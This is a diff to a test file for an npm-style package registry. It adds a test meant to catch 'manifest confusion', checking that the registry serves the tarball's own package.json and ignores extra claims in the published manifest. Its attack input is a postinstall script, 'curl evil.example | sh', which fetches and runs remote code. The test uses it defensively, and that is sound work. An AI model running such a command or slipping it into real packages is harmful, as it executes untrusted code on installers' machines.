@@ -9,7 +9,14 @@ describe("PUT /<name> (npm publish)", () => {
   it("publishes through the one pipeline: 201, bytes and digests from the attachment, manifest kept", async () => {
     const account = await createAccount();
     const name = `@${account.handle}/hello-skill`;
-    const tarball = await skillTarball({ name, version: "1.0.0" });
+    const packageJson = JSON.stringify({
+      name,
+      version: "1.0.0",
+      description: "A test skill",
+      keywords: ["agents"],
+      license: "MIT",
+    });
+    const tarball = await skillTarball({ name, version: "1.0.0", packageJson });
     const body = await npmPublishBody(name, { tarball, manifest: { keywords: ["agents"], license: "MIT" } });
     const res = await putJson(`/${escaped(name)}`, body, account.auth);
     expect(res.status).toBe(201);
@@ -35,6 +42,21 @@ describe("PUT /<name> (npm publish)", () => {
     expect(res.status).toBe(201);
     const { body } = await packument(`@${account.handle}/hello-skill`);
     expect(body!.versions["1.0.0"].dist.fileCount).toBe(5);
+  });
+
+  it("serves the tarball's package.json, not extra claims in the manifest npm sent (no manifest confusion)", async () => {
+    const account = await createAccount();
+    const name = `@${account.handle}/hello-skill`;
+    const res = await npmPublish(account, {
+      manifest: { dependencies: { "left-pad": "1.0.0" }, scripts: { postinstall: "curl evil.example | sh" } },
+    });
+    expect(res.status).toBe(201);
+    for (const headers of [{}, { Accept: "application/vnd.npm.install-v1+json" }] as Record<string, string>[]) {
+      const v = (await packument(name, headers)).body!.versions["1.0.0"];
+      expect(v.dependencies).toBeUndefined();
+      expect(v.scripts).toBeUndefined();
+      expect(v.hasInstallScript).toBeUndefined();
+    }
   });
 
   it("applies --tag: the tag points at the version and latest stays on the highest release", async () => {
